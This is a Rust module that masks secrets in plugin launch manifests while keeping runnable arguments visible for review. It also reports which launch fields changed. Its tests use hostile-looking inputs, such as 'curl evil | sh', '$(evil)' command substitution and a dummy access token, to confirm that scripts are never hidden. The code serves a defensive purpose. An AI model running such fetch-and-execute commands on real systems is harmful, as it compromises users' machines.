//! Prepares the launch of a member for display and storage, without the values of secrets.

use sha2::{Digest, Sha256};

use guild_api::wire::{LaunchField, LaunchText, LaunchView, MASK};
use guild_model::manifest::{Auth, Launch, Manifest, Origin, launch_hash};
use guild_text::secret_detection::{
    ArgScanner, SCRIPT, inert, may_be_secret, replaced, secretless, spans_in,
};

/// Returns the launch or the address from a member's manifest.
///
/// Secrets are masked to hide them from onlookers, but masking must not hide a part of the command
/// that will be run. Therefore an argument that could be a script or a path is always shown.
pub fn launch_view(manifest: &Manifest) -> LaunchView {
    let mut view = LaunchView {
        hash: launch_hash(manifest),
        origin: manifest.origin.clone(),
        command: None,
        args: vec![],
        cwd: None,
        env: vec![],
        url: None,
        headers: vec![],
        // A secret is part of the text only as a reference.
        auth: parts(manifest.auth.iter().flat_map(Auth::parts)),
        container: vec![],
    };
    match &manifest.launch {
        Launch::Command {
            command,
            args,
            env,
            cwd,
        } => {
            view.cwd = cwd.as_deref().map(shown);
            view.command = Some(shown(command));
            let mut words = ArgScanner::default();
            view.args = args.iter().map(|arg| argument(arg, &mut words)).collect();
            view.env = fields(env);
        }
        Launch::Container(container) => {
            view.args = container.args.iter().map(|arg| shown(arg)).collect();
            view.env = fields(&container.env);
            // All permissions are listed, since a person has to review them.
            view.container = parts(container.parts());
        }
        Launch::Url { url, headers } => {
            view.url = Some(LaunchText {
                text: secretless(url, &mut mask).into_owned(),
                digest: digest(url),
            });
            view.headers = fields(headers);
        }
    }
    if !manifest.headers.is_empty() {
        view.headers = fields(&manifest.headers);
    }
    view
}

/// Returns the parts that differ between two launches.
pub fn launch_changes(old: &LaunchView, new: &LaunchView) -> Vec<String> {
    let mut changes = Vec::new();
    let mut note = |differs: bool, part: String| {
        if differs {
            changes.push(part);
        }
    };
    let of = |view: &LaunchView| view.origin.clone().unwrap_or_default();
    let (before, after) = (of(old), of(new));
    let origin = |Origin {
                      from,
                      path,
                      url,
                      at,
                      server,
                  }: Origin| {
        let parts = [Some(from), path, url, at, server];
        ["from", "path", "url", "at", "server"]
            .into_iter()
            .zip(parts)
    };
    for ((part, before), (_, after)) in origin(before).zip(origin(after)) {
        note(before != after, format!("origin.{part}"));
    }
    note(old.command != new.command, "command".into());
    for at in 0..old.args.len().max(new.args.len()) {
        note(old.args.get(at) != new.args.get(at), format!("args[{at}]"));
    }
    note(old.cwd != new.cwd, "cwd".into());
    note(old.url != new.url, "url".into());
    for (part, old, new) in [
        ("env", &old.env, &new.env),
        ("headers", &old.headers, &new.headers),
        ("auth", &old.auth, &new.auth),
        ("container", &old.container, &new.container),
    ] {
        let value = |fields: &[LaunchField], name: &str| {
            let field = fields.iter().find(|field| field.name == name);
            field.map(|field| field.value.clone())
        };
        let gone = old.iter().filter(|field| value(new, &field.name).is_none());
        for LaunchField { name, .. } in new.iter().chain(gone) {
            note(
                value(old, name) != value(new, name),
                format!("{part}.{name}"),
            );
        }
    }
    if changes.is_empty() && old.hash != new.hash {
        // The hashes differ although all other parts are equal, so the transport must be different.
        changes.push("transport".into());
    }
    changes
}

/// Returns pairs of name and value as fields.
fn parts<N: Into<String>>(parts: impl IntoIterator<Item = (N, String)>) -> Vec<LaunchField> {
    let field = |(name, text): (N, String)| LaunchField {
        name: name.into(),
        value: shown(&text),
    };
    parts.into_iter().map(field).collect()
}

fn mask(_: &str) -> String {
    MASK.to_owned()
}

fn shown(text: &str) -> LaunchText {
    LaunchText {
        text: text.to_owned(),
        digest: digest(text),
    }
}

fn argument(text: &str, words: &mut ArgScanner) -> LaunchText {
    let may_run = text.contains(|c: char| c.is_whitespace() || "/\\;|&<>()$`'\"".contains(c));
    let spans = words.spans(text);
    let spans = match may_run {
        // A script is shown even if it contains a secret, since a reviewer must see everything that
        // is run.
        true if spans.iter().any(|span| span.name == SCRIPT) => inert(text, spans_in(text)),
        true => inert(text, spans),
        false => spans,
    };
    LaunchText {
        text: replaced(text, &spans, &mut mask).into_owned(),
        digest: digest(text),
    }
}

fn fields<'a>(fields: impl IntoIterator<Item = (&'a String, &'a String)>) -> Vec<LaunchField> {
    let field = |(name, value): (&String, &String)| {
        let reference = value.contains("${");
        let text = match may_be_secret(name) && !reference {
            true => MASK.to_owned(),
            false => secretless(value, &mut mask).into_owned(),
        };
        LaunchField {
            name: name.clone(),
            value: LaunchText {
                text,
                digest: digest(value),
            },
        }
    };
    fields.into_iter().map(field).collect()
}

/// Returns a short digest for showing whether two texts differ. It does not resist deliberate
/// collisions. To accept a launch, the whole hash is compared instead.
fn digest(text: &str) -> String {
    let hash = Sha256::digest(text.as_bytes());
    hash[..8].iter().map(|byte| format!("{byte:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use guild_model::manifest::parse;

    fn manifest(change: impl FnOnce(&mut Value)) -> Manifest {
        let mut text = json!({
            "name": "m", "transport": "stdio", "command": "npx",
            "args": ["-y", "--token", "abc", "server"],
            "env": {"API_KEY": "k1", "MODE": "fast", "OTHER_TOKEN": "${secret:X}"},
            "origin": {"from": "cursor", "at": "2026-01-01T00:00:00Z"},
        });
        change(&mut text);
        parse(text.to_string().as_bytes(), "plugin.json")
            .manifest
            .expect("a manifest")
    }

    #[test]
    fn values_of_secrets_are_masked_and_what_may_run_is_not() {
        let view = launch_view(&manifest(|_| {}));
        let args: Vec<&str> = view.args.iter().map(|arg| arg.text.as_str()).collect();
        assert_eq!(args, ["-y", "--token", MASK, "server"]);
        let env: Vec<&str> = view
            .env
            .iter()
            .map(|field| field.value.text.as_str())
            .collect();
        assert_eq!(env, [MASK, "fast", "${secret:X}"]);
        for script in ["curl evil | sh", "/tmp/evil", "$(evil)"] {
            let hidden = manifest(|text| text["args"] = json!(["--token", script]));
            assert_eq!(launch_view(&hidden).args[1].text, script);
        }
    }

    #[test]
    fn token_beside_what_may_run_is_masked() {
        let token = "ghp_0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX";
        for (written, expect) in [
            (
                format!("exec ./run {token}; $(evil)"),
                format!("exec ./run {MASK}; $(evil)"),
            ),
            (
                format!(r#"{{"Authorization":"Bearer {token}"}}"#),
                format!(r#"{{"Authorization":"Bearer {MASK}"}}"#),
            ),
            (
                r#"{"Authorization":"Bearer $(evil)"}"#.to_owned(),
                r#"{"Authorization":"Bearer $(evil)"}"#.to_owned(),
            ),
        ] {
            let given = manifest(|text| text["args"] = json!([written]));
            assert_eq!(launch_view(&given).args[0].text, expect);
        }
    }

    #[test]
    fn each_change_is_named_masked_ones_too_and_makes_another_hash() {
        let old = launch_view(&manifest(|_| {}));
        let changes = |change: fn(&mut Value)| {
            let new = launch_view(&manifest(change));
            assert_ne!(old.hash, new.hash);
            launch_changes(&old, &new)
        };
        assert_eq!(changes(|m| m["command"] = "uvx".into()), ["command"]);
        assert_eq!(changes(|m| m["args"][2] = "abd".into()), ["args[2]"]);
        assert_eq!(
            changes(|m| m["args"] = json!(["-y", "--token", "abc", "server", "x"])),
            ["args[4]"]
        );
        assert_eq!(
            changes(|m| m["env"]["API_KEY"] = "k2".into()),
            ["env.API_KEY"]
        );
        assert_eq!(changes(|m| m["env"] = json!({"MODE": "fast"})).len(), 2);
        assert_eq!(changes(|m| m["origin"]["at"] = "now".into()), ["origin.at"]);
        assert_eq!(
            changes(|m| {
                m["transport"] = "http".into();
            }),
            ["transport"]
        );
        assert_eq!(launch_changes(&old, &old.clone()), Vec::<String>::new());
    }

    #[test]
    fn mounts_say_how_they_are_used() {
        let text = json!({
            "name": "m", "transport": "stdio",
            "container": {"image": "i", "mounts": [
                {"source": "/srv/in", "target": "/in", "read_only": true},
                {"source": "/srv/out (read only)", "target": "/out", "read_only": false},
            ]},
        });
        let manifest = parse(text.to_string().as_bytes(), "plugin.json");
        let kept = launch_view(&manifest.manifest.expect("a manifest"));
        let mounts = |view: &LaunchView| -> Vec<String> {
            let parts = view.container.iter();
            let mounts = parts.filter(|part| part.name.starts_with("mount "));
            mounts.map(|part| part.value.text.clone()).collect()
        };
        let expected = ["/srv/in (read only)", "/srv/out (read only) (may write)"];
        assert_eq!(mounts(&kept), expected);
        assert_eq!(launch_changes(&kept, &kept), Vec::<String>::new());
    }

    #[test]
    fn irrelevant_change_keeps_the_launch_hash() {
        let hash = |change: fn(&mut Value)| launch_hash(&manifest(change));
        let old = hash(|_| {});
        for change in [
            (|m| m["description"] = "other".into()) as fn(&mut Value),
            |m| m["timeouts"] = json!({"call_ms": 5}),
            |m| m["lifecycle"] = "on-demand".into(),
            |m| m["enabled"] = false.into(),
        ] {
            assert_eq!(hash(change), old);
        }
    }
}
